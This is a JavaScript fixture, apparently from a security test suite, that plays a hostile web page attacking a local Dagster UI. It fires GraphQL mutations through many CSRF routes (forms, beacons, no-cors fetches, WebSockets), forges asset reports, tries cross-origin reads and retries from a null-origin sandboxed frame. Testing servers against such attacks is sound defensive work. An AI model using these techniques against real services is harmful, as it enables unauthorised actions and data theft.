// What a hostile page tries against a server of the operator's own computer; read by support/hostile_page.py.
// Whatever a technique can read is loot: [name of the technique, the beginning of the text].

const PATIENCE = 4000;

function within(promise, milliseconds = PATIENCE) {
  return Promise.race([promise, new Promise((_, refuse) => setTimeout(() => refuse(new Error("late")), milliseconds))]);
}

function element(tag, fields, append = true) {
  const made = Object.assign(document.createElement(tag), fields);
  if (append) document.body.append(made);
  return made;
}

function loaded(made) {
  return new Promise((done) => {
    made.addEventListener("load", () => done(true));
    made.addEventListener("error", () => done(false));
  });
}

async function textOf(url, options = {}) {
  const answer = await within(fetch(url, options));
  return answer.type === "opaque" || answer.type === "opaqueredirect" ? "" : `${answer.status} ${await answer.text()}`;
}

// A form as any page can send it, to a frame, a new window or in place of the page itself.
function form(action, { method = "POST", enctype = "application/x-www-form-urlencoded", fields = {}, target }) {
  const made = element("form", { action, method, enctype });
  if (target) made.target = target;
  for (const [name, value] of Object.entries(fields)) made.append(element("input", { type: "hidden", name, value }, false));
  made.submit();
  return made;
}

async function formInFrame(action, options) {
  const frame = element("iframe", { name: `f${Math.random()}` });
  const answered = loaded(frame);
  form(action, { ...options, target: frame.name });
  await within(answered).catch(() => {});
  return readable(frame.contentWindow);
}

function readable(other) {
  try {
    return other.document.location.href === "about:blank" ? "" : other.document.documentElement.outerHTML;
  } catch {
    return "";
  }
}

const asQuery = (url, query) => `${url}?query=${encodeURIComponent(query)}`;
const asJson = (query) => JSON.stringify({ query });
// JSON as a form of text/plain sends it: name=value, with the = inside a string.
const asPlainFields = (query) => ({ [`{"query":${JSON.stringify(query)},"rest":"`]: '"}' });

// Every way to send one GraphQL document. `document_` is made anew for each, so that it can be told which got through.
function waysToSend(graphql, document_) {
  const post = (name, type, body, more = {}) => [
    name,
    () => textOf(graphql, { method: "POST", headers: type ? { "Content-Type": type } : {}, body: body(document_(name)), ...more }),
  ];
  const multipart = (query) => {
    const data = new FormData();
    data.append("query", query);
    return data;
  };
  const opaque = { mode: "no-cors", credentials: "include" };
  const readableToo = { mode: "cors", credentials: "include" };
  return [
    ["get-image", () => within(loaded(element("img", { src: asQuery(graphql, document_("get-image")) }))).then(() => "")],
    ["get-script", () => within(loaded(element("script", { src: asQuery(graphql, document_("get-script")) }))).then(() => "")],
    ["get-style", () => within(loaded(element("link", { rel: "stylesheet", href: asQuery(graphql, document_("get-style")) }))).then(() => "")],
    ["get-video", () => within(loaded(element("video", { src: asQuery(graphql, document_("get-video")) }))).then(() => "")],
    ["get-object", () => within(loaded(element("object", { data: asQuery(graphql, document_("get-object")) }))).then(() => "")],
    ["get-frame", async () => {
      const frame = element("iframe", { src: asQuery(graphql, document_("get-frame")) });
      await within(loaded(frame)).catch(() => {});
      return readable(frame.contentWindow);
    }],
    ["get-form", () => formInFrame(graphql, { method: "GET", fields: { query: document_("get-form") } })],
    ["get-no-cors", () => textOf(asQuery(graphql, document_("get-no-cors")), opaque)],
    ["get-cors", () => textOf(asQuery(graphql, document_("get-cors")), readableToo)],
    ["get-anonymous", () => textOf(asQuery(graphql, document_("get-anonymous")), { credentials: "omit" })],
    ["get-event-stream", () => within(new Promise((done) => {
      const stream = new EventSource(asQuery(graphql, document_("get-event-stream")), { withCredentials: true });
      stream.onmessage = (event) => done(event.data);
      stream.onerror = () => done("");
    }))],
    post("post-json-cors", "application/json", asJson, readableToo),
    post("post-json-anonymous", "application/json", asJson, { credentials: "omit" }),
    post("post-json-no-cors", "application/json", asJson, opaque),
    post("post-plain-no-cors", "text/plain", asJson, opaque),
    post("post-plain-cors", "text/plain", asJson, readableToo),
    post("post-graphql-no-cors", "application/graphql", (query) => query, opaque),
    post("post-urlencoded-no-cors", "application/x-www-form-urlencoded", (query) => new URLSearchParams({ query }), opaque),
    post("post-multipart-no-cors", null, multipart, opaque),
    post("post-blob-no-cors", null, (query) => new Blob([asJson(query)]), opaque),
    post("post-keepalive", "text/plain", asJson, { ...opaque, keepalive: true }),
    ["post-query-no-cors", () => textOf(asQuery(graphql, document_("post-query-no-cors")), { method: "POST", ...opaque })],
    ["put-json", () => textOf(graphql, { method: "PUT", headers: { "Content-Type": "application/json" }, body: asJson(document_("put-json")), ...readableToo })],
    ["beacon-plain", async () => void navigator.sendBeacon(graphql, asJson(document_("beacon-plain")))],
    ["beacon-json", async () => void navigator.sendBeacon(graphql, new Blob([asJson(document_("beacon-json"))], { type: "application/json" }))],
    ["beacon-query", async () => void navigator.sendBeacon(asQuery(graphql, document_("beacon-query")))],
    ["form-urlencoded", () => formInFrame(graphql, { fields: { query: document_("form-urlencoded") } })],
    ["form-multipart", () => formInFrame(graphql, { enctype: "multipart/form-data", fields: { query: document_("form-multipart") } })],
    ["form-plain", () => formInFrame(graphql, { enctype: "text/plain", fields: asPlainFields(document_("form-plain")) })],
    ["form-query", () => formInFrame(asQuery(graphql, document_("form-query")), { enctype: "text/plain" })],
  ];
}

// Talks Dagster's two WebSocket protocols: opens, sends a document, and keeps what it hears.
function socketSays(graphql, protocol, query) {
  return within(new Promise((done) => {
    const heard = [];
    const socket = new WebSocket(graphql.replace("http", "ws"), protocol);
    const finish = () => done(heard.join("\n"));
    socket.onopen = () => {
      heard.push(`open ${socket.protocol}`);
      socket.send(JSON.stringify({ type: "connection_init", payload: {} }));
      socket.send(JSON.stringify({ id: "1", type: "start", payload: { query } }));
      socket.send(JSON.stringify({ id: "2", type: "subscribe", payload: { query } }));
      setTimeout(finish, 1500);
    };
    socket.onmessage = (event) => heard.push(String(event.data));
    socket.onerror = finish;
    socket.onclose = finish;
  }));
}

// What may be read without changing anything.
function waysToRead(target, { graphql, reads, subscription }) {
  return [
    ...reads.map((path) => [`read ${path}`, () => textOf(target + path, { credentials: "include" })]),
    ["socket-read-old", () => socketSays(graphql, "graphql-ws", subscription)],
    ["socket-read-new", () => socketSays(graphql, "graphql-transport-ws", subscription)],
    ["cookies", async () => document.cookie],
    ["frame", async () => {
      const frame = element("iframe", { src: target });
      await within(loaded(frame)).catch(() => {});
      await new Promise((done) => setTimeout(done, 1500));
      return readable(frame.contentWindow) + (frame.contentWindow.length ? "frames in it" : "");
    }],
    ["window", async () => {
      const other = window.open(target);
      await new Promise((done) => setTimeout(done, 2500));
      let text = other ? readable(other) : "";
      try {
        text += other.localStorage ? "its storage" : "";
      } catch {}
      try {
        if (!other.closed && other.length) text += "frames in it";
        other.postMessage({ id: "1", type: "start" }, "*");
        other.close();
      } catch {}
      return text;
    }],
    ["image", async () => {
      const image = element("img", { src: `${target}/favicon.png` });
      await within(loaded(image)).catch(() => {});
      return image.naturalWidth ? `an image of ${image.naturalWidth} pixels: something of it is there` : "";
    }],
    ["script", async () => {
      const names = new Set(Object.getOwnPropertyNames(window));
      await within(loaded(element("script", { src: asQuery(graphql, "{version}") }))).catch(() => {});
      return Object.getOwnPropertyNames(window).filter((name) => !names.has(name)).join(" ");
    }],
    ["worker", () => within(new Promise((done) => {
      const code = `fetch(${JSON.stringify(asQuery(graphql, "{version}"))}, {credentials: "include"})
        .then((answer) => answer.text()).then(postMessage, () => postMessage(""));`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = (event) => done(event.data);
      worker.onerror = () => done("");
    }))],
  ];
}

// Assets may be reported over HTTP, which is a way to forge a build.
function waysToReport(target, path, key) {
  const at = (name) => `${target}${path}?partition=${encodeURIComponent(key(name))}&description=${encodeURIComponent(key(name))}`;
  return [
    ["report-query", () => textOf(at("report-query"), { method: "POST", mode: "no-cors", credentials: "include" })],
    ["report-json", () => textOf(at("report-json"), {
      method: "POST", body: JSON.stringify({ partition: key("report-json") }), headers: { "Content-Type": "application/json" }, credentials: "include",
    })],
    ["report-form", () => formInFrame(at("report-form"), { fields: { partition: key("report-form") } })],
    ["report-beacon", async () => void navigator.sendBeacon(at("report-beacon"))],
  ];
}

const AT_A_TIME = 20;

async function run(ways) {
  const loot = [];
  const attempt = async ([name, way]) => {
    try {
      const text = await way();
      if (text) loot.push([name, String(text).slice(0, 1000)]);
    } catch {
      // The browser refuses: just so.
    }
  };
  for (let start = 0; start < ways.length; start += AT_A_TIME) {
    await Promise.all(ways.slice(start, start + AT_A_TIME).map(attempt));
  }
  return loot;
}

// All of it against the operator's UI.
function attackUi(plan) {
  const graphql = `${plan.target}/graphql`;
  const key = (name) => `${plan.label}-${name}`;
  const document_ = (name) => plan.mutation.replaceAll("KEY", key(name));
  return run([
    ...waysToSend(graphql, document_),
    ["socket-write-old", () => socketSays(graphql, "graphql-ws", document_("socket-write-old"))],
    ["socket-write-new", () => socketSays(graphql, "graphql-transport-ws", document_("socket-write-new"))],
    ...waysToReport(plan.target, plan.report, key),
    ...waysToRead(plan.target, { ...plan, graphql }),
  ]);
}

// A request to another service, in every way that needs no preflight, and in those that need one.
function attackService(orders, reads) {
  const ways = [];
  for (const { url, fields } of orders) {
    const encoded = new URLSearchParams(fields).toString();
    const glue = url.includes("?") ? "&" : "?";
    for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
      ways.push([`form ${enctype} ${url}`, () => formInFrame(url, { enctype, fields })]);
      ways.push([`no-cors ${enctype} ${url}`, () => textOf(url, {
        method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": enctype }, body: encoded,
      })]);
    }
    for (const body of [encoded, JSON.stringify(fields)]) {
      for (const type of ["text/plain", "application/json"]) {
        ways.push([`cors ${type} ${url}`, () => textOf(url, {
          method: "POST", headers: { "Content-Type": type, "X-Requested-With": "page" }, body, credentials: "include",
        })]);
        ways.push([`no-cors ${type} ${url}`, () => textOf(url, { method: "POST", mode: "no-cors", headers: { "Content-Type": type }, body })]);
      }
      ways.push([`beacon ${url}`, async () => void navigator.sendBeacon(url, body)]);
    }
    ways.push([`image ${url}`, () => within(loaded(element("img", { src: url + glue + encoded }))).then(() => "")]);
    ways.push([`get form ${url}`, () => formInFrame(url, { method: "GET", fields })]);
  }
  for (const url of reads) {
    ways.push([`read ${url}`, () => textOf(url, { credentials: "include" })]);
    ways.push([`frame ${url}`, async () => {
      const frame = element("iframe", { src: url });
      await within(loaded(frame)).catch(() => {});
      return readable(frame.contentWindow);
    }]);
  }
  return run(ways);
}

// The same from a frame without an origin ("null"), as a sandboxed frame or a data: address has.
function fromNowhere(library, call) {
  return new Promise((done) => {
    window.addEventListener("message", (event) => done(event.data), { once: true });
    const frame = element("iframe", {}, false);
    frame.sandbox = "allow-scripts allow-forms allow-popups";
    frame.srcdoc = `<body><script>${library.replaceAll("</", "<\\/")};
      ${call}.then((loot) => parent.postMessage(loot, "*"));<\/script></body>`;
    document.body.append(frame);
  });
}
